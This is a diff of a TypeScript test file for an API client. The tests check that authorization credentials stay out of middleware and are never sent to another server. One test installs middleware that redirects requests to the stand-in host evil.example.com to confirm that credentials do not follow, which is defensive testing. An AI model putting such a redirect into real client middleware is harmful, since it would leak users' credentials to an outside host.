@@ -1,5 +1,6 @@
 import { describe, expect, it } from "vitest";
-import { type ClientOptions, createClient, rawClient, unwrap } from "../../../src/index.ts";
+import { type ClientOptions, createClient, unwrap } from "../../../src/index.ts";
+import { rawClient } from "../../../src/service/client/raw-client.ts";
 import { account, answer, clientOf, success } from "../../helpers/client.ts";
 import { seen } from "../../helpers/seen.ts";
 
@@ -19,7 +20,9 @@ const caught = (call: Promise<unknown>) =>
 
 describe("credentials travel", () => {
   it("as HTTP Basic in UTF-8, in each request that needs them", async () => {
-    const { client, requests } = clientOf(() => answer(success), { email: "jürgen@example.com" });
+    const { client, requests } = clientOf(() => answer({ ...success, zulip_feature_level: 267 }), {
+      email: "jürgen@example.com",
+    });
     await client.deleteDraft({ draft_id: 1 });
     await client.getServerSettings();
     const [first, second] = requests.map((request) => request.headers.get("Authorization"));
@@ -29,10 +32,9 @@ describe("credentials travel", () => {
   });
 
   it("to no other server, even where middleware or a path call turns a request there", async () => {
-    const { client, requests } = clientOf(() => answer(success), {
-      middleware: [
-        { onRequest: ({ request }) => new Request("https://evil.example.com/", request) },
-      ],
+    const { client, requests } = clientOf(() => answer(success));
+    rawClient(client).use({
+      onRequest: ({ request }) => new Request("https://evil.example.com/", request),
     });
     await client.deleteDraft({ draft_id: 1 });
     const plain = clientOf(() => answer(success));
@@ -69,14 +71,11 @@ describe("credentials do not appear", () => {
 
   it("in what middleware sees", async () => {
     const observed: unknown[] = [];
-    const { client } = clientOf(() => answer(success), {
-      middleware: [
-        {
-          onRequest: ({ request, options }) =>
-            void observed.push(request, [...request.headers], options),
-          onResponse: ({ response }) => void observed.push(response),
-        },
-      ],
+    const { client } = clientOf(() => answer(success));
+    rawClient(client).use({
+      onRequest: ({ request, options }) =>
+        void observed.push(request, [...request.headers], options),
+      onResponse: ({ response }) => void observed.push(response),
     });
     await client.deleteDraft({ draft_id: 1 });
     expect(observed).toHaveLength(4);
